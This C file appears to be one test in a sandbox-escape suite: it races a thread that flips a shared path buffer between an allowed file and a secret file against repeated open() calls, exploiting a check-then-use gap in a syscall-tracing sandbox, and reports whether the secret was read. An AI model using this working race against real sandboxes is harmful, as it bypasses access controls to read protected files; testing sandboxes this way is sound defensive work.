/* esc_race_mem ALLOWED SECRET [SECONDS]
 *
 * TOCTOU on memory: the tracer reads the path of an open from the
 * program's memory, decides, and the kernel then reads it again. Thread
 * B flips one shared path buffer between ALLOWED and SECRET (paths of the
 * same length, differing in a few bytes) while thread A opens it over and
 * over. Escaped if any open gives a descriptor whose content is the
 * secret. Runs SECONDS (default 3) or until 1000 escapes, and counts.
 */
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#include "esc.h"

enum { PATH_MAX_ = 512, ENOUGH = 1000 };

static char path[PATH_MAX_];
static const char *paths[2];
static size_t diff_at, diff_len;	/* the bytes that differ */
static int stop;

static void *flipper(void *arg)
{
	unsigned i = 0;

	(void)arg;
	while (!__atomic_load_n(&stop, __ATOMIC_RELAXED)) {
		i ^= 1;
		memcpy(path + diff_at, paths[i] + diff_at, diff_len);
		__atomic_signal_fence(__ATOMIC_SEQ_CST);
	}
	return NULL;
}

static double now(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

int main(int argc, char **argv)
{
	unsigned long tries = 0, opened = 0, escapes = 0, denied = 0;
	double secs = argc > 3 ? atof(argv[3]) : 3, end;
	int last_err = 0, fd, rc;
	size_t len, i;
	char buf[64];
	pthread_t t;
	ssize_t n;

	if (argc < 3 || argc > 4)
		verdict(SETUP, "usage: esc_race_mem ALLOWED SECRET [SECONDS]");
	paths[0] = argv[1];
	paths[1] = argv[2];
	len = strlen(paths[0]);
	if (len != strlen(paths[1]) || len >= PATH_MAX_)
		verdict(SETUP, "the two paths must have the same length");
	for (i = 0; i < len && paths[0][i] == paths[1][i]; i++)
		;
	diff_at = i;
	for (i = len; i > diff_at && paths[0][i - 1] == paths[1][i - 1]; i--)
		;
	diff_len = i - diff_at;
	if (!diff_len)
		verdict(SETUP, "the two paths are the same");
	memcpy(path, paths[0], len + 1);
	rc = pthread_create(&t, NULL, flipper, NULL);
	if (rc)
		verdict(SETUP, "pthread_create: %s", en(rc));
	end = now() + secs;
	while (escapes < ENOUGH && now() < end) {
		tries++;
		fd = open(path, O_RDONLY);
		if (fd < 0) {
			if (errno != ENOENT) {
				denied++;
				last_err = errno;
			}
			continue;
		}
		opened++;
		n = read(fd, buf, sizeof(buf) - 1);
		close(fd);
		if (n >= 9 && strncmp(buf, "TOPSECRET", 9) == 0)
			escapes++;
	}
	__atomic_store_n(&stop, 1, __ATOMIC_RELAXED);
	pthread_join(t, NULL);
	if (escapes)
		verdict(ESCAPED, "%lu of %lu opens read the secret (%lu "
			"opened, %lu refused)", escapes, tries, opened,
			denied);
	if (!opened)
		verdict(SETUP, "no open succeeded in %lu tries (last error "
			"%s): the allowed path is not readable", tries,
			en(last_err));
	verdict(BLOCKED, "%lu opens, %lu of the allowed file, %lu refused "
		"(%s), none of the secret", tries, opened, denied,
		denied ? en(last_err) : "-");
}
